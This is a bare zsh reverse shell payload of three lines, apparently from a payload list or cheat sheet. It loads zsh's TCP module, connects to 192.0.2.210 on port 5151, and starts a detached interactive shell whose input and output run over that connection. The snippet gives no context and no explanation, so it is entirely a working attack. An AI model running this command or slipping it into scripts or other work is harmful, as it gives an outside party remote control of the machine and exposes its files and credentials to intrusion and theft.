zmodload zsh/net/tcp
ztcp 192.0.2.210 5151
zsh >&$REPLY 2>&$REPLY 0>&$REPLY &!
